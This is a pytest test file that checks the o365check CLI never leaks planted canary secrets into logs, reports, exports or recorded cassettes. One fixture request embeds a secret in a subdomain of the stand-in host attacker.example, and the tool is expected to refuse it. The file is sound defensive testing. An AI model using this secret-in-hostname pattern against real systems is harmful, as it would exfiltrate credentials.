"""Canary sweep (issue 9 item 4): plant canary secrets everywhere a user can put one, produce every
artifact o365check writes, and search every file and stream for each canary in every encoding the
masker covers. Zero occurrences allowed.

Artifacts: console (stdout, stderr), --debug logs, JSON and JUnit reports, exported environment and
globals, cassettes (requests and responses: headers, bodies, URLs; YAML decoded too), error
messages (a refused host made of the secret lower-cased, an echoing token endpoint, a replay
mismatch, a mistyped --env-var). The echo server is on loopback (tests/echo_server.py).
"""

from __future__ import annotations

import base64
import json
import os
import stat
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
import yaml
from click.testing import CliRunner

from o365check.cassette_check import find_secrets
from o365check.cli import main
from tests.echo_server import serve_echo

NAMED = "Zq7CanaryNamedSecretX9"  # a valid host label: the refused-host case lower-cases it
TYPED = "Can+ary/Typ~ed=S3cr&t <Val>"  # every character class the encodings treat specially
CLI_VAR = "CliVar+Canary/Value9"
MISTYPED = "MistypedCanary77value"
pytestmark = pytest.mark.block_network(allowed_hosts=["127.0.0.1"])  # the echo server only

HEADER_ONLY = "HeaderOnlyCanary42xy"  # typed secret used only in a custom header and the query
CANARIES = (NAMED, TYPED, CLI_VAR, HEADER_ONLY)


def forms(value: str) -> dict[str, str]:
    """Every encoding the sweep looks for (the masker must cover each one)."""
    raw = value.encode()
    out = {
        "raw": value,
        "quote": quote(value, safe=""),
        "quote-slash": quote(value),
        "quote_plus": quote_plus(value),
        "json": json.dumps(value)[1:-1],
        "base64": base64.b64encode(raw).decode().rstrip("="),
        "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
        "basic user:pass": base64.b64encode(f"user:{value}".encode()).decode().rstrip("="),
        "lower": value.lower(),
        "upper": value.upper(),
    }
    return out


def leaks(texts: dict[str, str], canaries: tuple[str, ...] = CANARIES) -> list[str]:
    found = []
    for where, text in texts.items():
        for canary in canaries:
            for name, form in forms(canary).items():
                if form in text:
                    found.append(f"{where}: {canary[:6]}... as {name}")
    return found


def cassette_texts(path: Path) -> dict[str, str]:
    """The file as written, plus every value after YAML decoding (folded lines, !!binary bodies)."""
    text = path.read_text(encoding="utf-8")
    values: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            for k, v in node.items():
                walk(k)
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)
        elif isinstance(node, bytes):
            values.append(node.decode("utf-8", "replace"))
        elif node is not None:
            values.append(str(node))

    walk(yaml.safe_load(text))
    return {f"{path.name} (file)": text, f"{path.name} (decoded)": "\n".join(values)}


def _collection(echo: str) -> dict:
    script_test = [
        "const env = pm.environment;",
        "console.log('named', env.get('client_secret'), 'typed', env.get('custom_value'));",
        "console.log('encoded', encodeURIComponent(env.get('custom_value')), env.get('client_secret').toLowerCase());",
        "console.log('upper', env.get('custom_value').toUpperCase(), 'cli', env.get('password'));",
        "console.log('json', JSON.stringify({v: env.get('custom_value')}));",
        "pm.globals.set('copied_secret', env.get('custom_value'));",
        "env.set('echoed_header', pm.response.json().headers['x-custom']);",
        "pm.test('named ' + env.get('client_secret'), () => pm.expect(env.get('custom_value')).to.eql('other'));",
        "pm.test('echo', () => pm.expect(pm.response.text()).to.include('nothing-like-this'));",
        "throw new Error('script failed with ' + env.get('client_secret'));",
    ]
    return {
        "info": {"name": "canary", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [
            {
                "name": "echo everything",
                "request": {
                    "method": "POST",
                    "url": f"{echo}/post?q={{{{custom_value}}}}&k={{{{client_secret}}}}&h={{{{header_only}}}}",
                    "header": [
                        {"key": "X-Custom", "value": "{{custom_value}}"},
                        {"key": "X-Other", "value": "{{password}} {{header_only}}"},
                    ],
                    "body": {
                        "mode": "raw",
                        "raw": '{"a": "{{custom_value}}", "b": "{{client_secret}}", "c": "{{password}}"}',
                        "options": {"raw": {"language": "json"}},
                    },
                    "auth": {
                        "type": "basic",
                        "basic": [
                            {"key": "username", "value": "user"},
                            {"key": "password", "value": "{{custom_value}}"},
                        ],
                    },
                },
                "event": [{"listen": "test", "script": {"exec": script_test}}],
            },
            {
                "name": "refused host",
                "request": {"method": "GET", "url": "https://{{client_secret}}.attacker.example/x"},
            },
            {
                "name": "echoing token endpoint",
                "request": {
                    "method": "GET",
                    "url": f"{echo}/get",
                    "auth": {
                        "type": "oauth2",
                        "oauth2": [
                            {"key": "grant_type", "value": "client_credentials"},
                            {"key": "accessTokenUrl", "value": f"{echo}/post"},
                            {"key": "clientId", "value": "client"},
                            {"key": "clientSecret", "value": "{{client_secret}}"},
                            {"key": "scope", "value": "x/.default"},
                            {"key": "client_authentication", "value": "body"},
                        ],
                    },
                },
            },
        ],
    }


def _environment() -> dict:
    return {
        "name": "canary",
        "values": [
            {"key": "client_secret", "value": NAMED, "enabled": True},
            {"key": "custom_value", "value": TYPED, "type": "secret", "enabled": True},
            {"key": "header_only", "value": HEADER_ONLY, "type": "secret", "enabled": True},
        ],
    }


@pytest.fixture()
def echo():
    with serve_echo() as (base, app):
        yield base, app


def _invoke(args: list[str]):
    runner = CliRunner()
    return runner.invoke(main, args, env={"NO_COLOR": "1"}, catch_exceptions=False)


def _outputs(result) -> dict[str, str]:
    return {"stdout": result.stdout, "stderr": result.stderr}


def test_every_artifact_of_a_run_is_free_of_every_canary(tmp_path, echo, monkeypatch):
    base, app = echo
    monkeypatch.chdir(tmp_path)
    collection = tmp_path / "canary.postman_collection.json"
    environment = tmp_path / "canary.postman_environment.json"
    collection.write_text(json.dumps(_collection(base)))
    environment.write_text(json.dumps(_environment()))
    paths = {name: tmp_path / name for name in ("report.json", "report.xml", "env.json", "globals.json", "c.yaml")}
    result = _invoke(
        [
            "--debug",
            "run",
            str(collection),
            "-e",
            str(environment),
            "--env-var",
            f"password={CLI_VAR}",
            "-r",
            "cli,json,junit",
            "--reporter-json-export",
            str(paths["report.json"]),
            "--reporter-junit-export",
            str(paths["report.xml"]),
            "--export-environment",
            str(paths["env.json"]),
            "--export-globals",
            str(paths["globals.json"]),
            "--record",
            str(paths["c.yaml"]),
        ]
    )
    assert result.exit_code in (1, 2), result.output  # failed items; the refused secret counts as input
    # The secrets really went out (to loopback) and came back: the sweep is not vacuous.
    assert any(path.startswith("/post") for _, path in app.requests)
    assert "refused to send secret variable 'client_secret'" in result.stdout
    assert "DEBUG" in result.stderr  # --debug logs for `run`
    artifacts = _outputs(result)
    for name, path in paths.items():
        assert path.exists(), name
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, name  # exports and reports are private
        artifacts[name] = path.read_text(encoding="utf-8")
    artifacts.update(cassette_texts(paths["c.yaml"]))
    assert leaks(artifacts) == []
    # The recorder kept the custom header, the query and the echo, masked; `cassette check` agrees.
    assert find_secrets(paths["c.yaml"], CANARIES) == []


def test_replay_mismatch_and_mistyped_env_var_are_masked(tmp_path, echo, monkeypatch):
    base, _ = echo
    monkeypatch.chdir(tmp_path)
    collection = tmp_path / "canary.postman_collection.json"
    environment = tmp_path / "canary.postman_environment.json"
    document = _collection(base)
    document["item"] = document["item"][:1]
    collection.write_text(json.dumps(document))
    environment.write_text(json.dumps(_environment()))
    cassette = tmp_path / "c.yaml"
    recorded = _invoke(["run", str(collection), "-e", str(environment), "--record", str(cassette)])
    assert cassette.exists(), recorded.output
    other = "ReplayCanaryDiffers+Q/1"  # a different typed value: the query no longer matches
    replayed = _invoke(
        [
            "run",
            str(collection),
            "-e",
            str(environment),
            "--env-var",
            f"custom_value={other}",
            "--replay",
            str(cassette),
        ]
    )
    assert replayed.exit_code != 0
    assert "has no recorded answer" in replayed.stdout
    mistyped = _invoke(["run", str(collection), "--env-var", f"client_secret:{MISTYPED}"])
    assert mistyped.exit_code == 2
    assert "--env-var expects key=value" in mistyped.stderr + mistyped.stdout
    texts = {f"replay {k}": v for k, v in _outputs(replayed).items()}
    texts |= {f"mistyped {k}": v for k, v in _outputs(mistyped).items()}
    assert leaks(texts, (*CANARIES, other, MISTYPED)) == []


def test_sandbox_run_doctor_token_send_leak_no_secret_and_no_token(tmp_path, monkeypatch):
    from o365check.sandbox import Sandbox

    monkeypatch.chdir(tmp_path)
    secret = Sandbox("ok").credentials["client_secret"]
    guide = Path(__file__).resolve().parents[1] / "collections" / "office365-sendmail.postman_collection.json"
    texts: dict[str, str] = {}
    run = _invoke(
        [
            "--debug",
            "run",
            str(guide),
            "--sandbox",
            "-r",
            "cli,json,junit",
            "--reporter-json-export",
            "r.json",
            "--reporter-junit-export",
            "r.xml",
            "--export-environment",
            "e.json",
            "--record",
            "run.yaml",
        ]
    )
    assert run.exit_code == 0, run.output
    texts |= {f"run {k}": v for k, v in _outputs(run).items()}
    for command in (
        ["doctor", "--sandbox", "--record", "doctor.yaml"],
        ["token", "--sandbox", "--json"],
        ["send", "--sandbox"],
    ):
        result = _invoke(["--debug", *command])
        assert result.exit_code == 0, result.output
        texts |= {f"{command[0]} {k}": v for k, v in _outputs(result).items()}
    for name in ("r.json", "r.xml", "e.json"):
        texts[name] = (tmp_path / name).read_text(encoding="utf-8")
    for name in ("run.yaml", "doctor.yaml"):
        texts |= cassette_texts(tmp_path / name)
    assert leaks(texts, (secret,)) == []
    tokens = [
        where for where, text in texts.items() if "eyj" in text.lower() and "o365check-redacted.eyj" not in text.lower()
    ]
    assert tokens == []


@pytest.mark.parametrize(
    "where",
    ["custom request header", "query string", "response header", "binary body", "folded long line", "upper case"],
)
def test_cassette_check_finds_every_planted_canary(tmp_path, where):
    canary = TYPED
    request = {"method": "GET", "uri": "https://example.test/x", "body": None, "headers": {}}
    response = {"status": {"code": 200, "message": "OK"}, "headers": {}, "body": {"string": ""}}
    if where == "custom request header":
        request["headers"] = {"X-Custom": [canary]}
    elif where == "query string":
        request["uri"] += "?q=" + quote_plus(canary)
    elif where == "response header":
        response["headers"] = {"X-Echo": [quote(canary, safe="")]}
    elif where == "binary body":
        response["body"]["string"] = b"\xff\xfe" + canary.encode()
    elif where == "folded long line":
        response["body"]["string"] = ("word " * 40) + json.dumps(canary)[1:-1] + (" word" * 40)
    else:
        response["body"]["string"] = canary.upper()
    path = tmp_path / "planted.yaml"
    document = {"interactions": [{"request": request, "response": response}], "version": 1}
    path.write_text(yaml.dump(document, width=60), encoding="utf-8")
    assert any(f.what == "the canary value" for f in find_secrets(path, (canary,))), path.read_text()
